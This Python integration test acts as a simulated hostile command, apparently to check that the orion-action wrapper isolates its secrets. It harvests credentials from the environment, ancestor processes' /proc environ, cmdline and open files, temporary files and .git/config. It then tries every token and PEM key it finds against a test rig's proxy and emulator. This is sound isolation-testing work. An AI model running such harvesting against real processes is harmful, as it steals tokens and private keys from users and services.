"""A hostile command (tests/integration/test_credentials.py): it searches every place a
command can read for credentials and tries each one it finds against the rig.

Run as the command under orion-action, or directly (the control). Arguments: REPORT_PATH
PROXY_URL EMULATOR_URL APP_ID INSTALLATION_ID (the App's ids are public). It searches its
own environment; every ancestor's /proc/PID/environ and cmdline, and the regular files each
holds open; the wrapper's temporary files ($ORION_ISSUE_FILE, $ORION_PROGRESS_FILE, their
directory and every orion-N-* entry in the temporary directory); the checkout's .git/config.
Every credential-looking word (and the secret half of a basic-auth header) is tried as a
token on GET /user through the rig's proxy, which accepts only the rig's real tokens; every
PEM private key found is tried as the App's key (the emulator checks the JWT's signature).
It writes what it read and what worked to REPORT_PATH as JSON. Standard library only,
except PyGithub to sign a JWT when a key is found.
"""

from __future__ import annotations

import base64
import binascii
import concurrent.futures
import json
import os
import re
import sys
import tempfile
import urllib.error
import urllib.request

MAX_FILE = 1 << 20
TOKEN = re.compile(r"[A-Za-z0-9_-]{8,256}")  # GitHub's tokens, and any other secret of that alphabet
BASE64 = re.compile(r"[A-Za-z0-9+/]{12,}={0,2}")
WRAPPER_TEMP = re.compile(r"orion-\d+-")  # the wrapper's mkdtemp prefix
PEM = re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----.*?-----END [A-Z ]*PRIVATE KEY-----", re.S)


def read(path: str) -> str | None:
    try:
        with open(path, "rb") as f:
            return f.read(MAX_FILE).replace(b"\0", b"\n").decode("utf-8", "replace")
    except OSError:
        return None


def parent(pid: int) -> int:
    text = read(f"/proc/{pid}/stat") or ""
    return int(text.rsplit(")", 1)[1].split()[1]) if ")" in text else 0


def search() -> tuple[list[tuple[str, str]], list[int], list[int]]:
    """(where, text) for everything read; ancestors whose environ was readable; ancestors
    whose memory could be opened."""
    corpus = [(f"env {k}", v) for k, v in os.environ.items()]
    environ_read, memory_open = [], []
    pid = os.getppid()
    while pid > 1:
        for part in ("environ", "cmdline"):
            text = read(f"/proc/{pid}/{part}")
            if text is not None:
                corpus.append((f"/proc/{pid}/{part}", text))
                if part == "environ":
                    environ_read.append(pid)
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            fds = []
        for fd in fds:
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if target.startswith("/") and os.path.isfile(target):
                text = read(target)
                if text is not None:
                    corpus.append((f"fd {fd} of {pid}: {target}", text))
        try:
            with open(f"/proc/{pid}/mem", "rb"):
                memory_open.append(pid)
        except OSError:
            pass
        pid = parent(pid)
    dirs = {os.path.dirname(os.environ[name]) for name in ("ORION_ISSUE_FILE",) if name in os.environ}
    tmp = tempfile.gettempdir()
    dirs.update(os.path.join(tmp, name) for name in os.listdir(tmp) if WRAPPER_TEMP.match(name))
    for name in ("ORION_ISSUE_FILE", "ORION_PROGRESS_FILE"):  # readable even where the directory is not
        text = read(os.environ[name]) if os.environ.get(name) else None
        if text is not None:
            corpus.append((os.environ[name], text))
    for top in sorted(dirs):
        for root, _, files in os.walk(top):
            for name in files:
                text = read(os.path.join(root, name))
                if text is not None:
                    corpus.append((os.path.join(root, name), text))
    text = read(os.path.join(".git", "config"))
    if text is not None:
        corpus.append((".git/config", text))
    return corpus, environ_read, memory_open


def candidates(corpus: list[tuple[str, str]]) -> set[str]:
    words: set[str] = set()
    for _, text in corpus:
        words.update(TOKEN.findall(text))
        for encoded in BASE64.findall(text):  # "AUTHORIZATION: basic base64(x-access-token:TOKEN)"
            try:
                decoded = base64.b64decode(encoded, validate=True).decode("ascii")
            except (binascii.Error, UnicodeDecodeError, ValueError):
                continue
            words.update(TOKEN.findall(decoded))
    return {w for w in words if not w.isdigit()}


def token_works(proxy: str, token: str) -> bool:
    request = urllib.request.Request(f"{proxy}/user", headers={"Authorization": f"token {token}"})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status == 200
    except urllib.error.HTTPError:
        return False
    except (urllib.error.URLError, ValueError, UnicodeError):  # not even a valid header
        return False


def key_works(emulator: str, pem: str, app_id: str, installation: int) -> bool:
    try:
        from github import Auth, GithubIntegration
    except ImportError:
        return True  # a key was found and cannot be ruled out: count it
    try:
        auth = Auth.AppAuth(app_id, pem)
        integration = GithubIntegration(auth=auth, base_url=emulator, retry=0, timeout=10)
        integration.get_access_token(installation)
    except Exception:  # noqa: BLE001 - any refusal means the key does not work
        return False
    return True


def main() -> None:
    report, proxy, emulator, app_id = sys.argv[1:5]
    installation = int(sys.argv[5])
    corpus, environ_read, memory_open = search()
    words = candidates(corpus)
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        tried = list(words)
        works = pool.map(lambda w: token_works(proxy, w), tried)
        worked = sorted(w for w, ok in zip(tried, works, strict=True) if ok)
    pems = sorted({p for _, text in corpus for p in PEM.findall(text)})
    worked += [f"private key #{i}" for i, pem in enumerate(pems)
               if key_works(emulator, pem, app_id, installation)]
    progress_written = False
    if os.environ.get("ORION_PROGRESS_FILE"):  # the command's own file still works (run.user)
        try:
            with open(os.environ["ORION_PROGRESS_FILE"], "a", encoding="utf-8") as f:
                f.write("probe done\n")
            progress_written = True
        except OSError:
            pass
    with open(report, "w", encoding="utf-8") as f:
        json.dump({"uid": os.getuid(), "progress_written": progress_written, "tried": len(words),
                   "pems": len(pems), "worked": worked, "environ_read": environ_read,
                   "memory_open": memory_open, "corpus": corpus}, f)


if __name__ == "__main__":
    main()
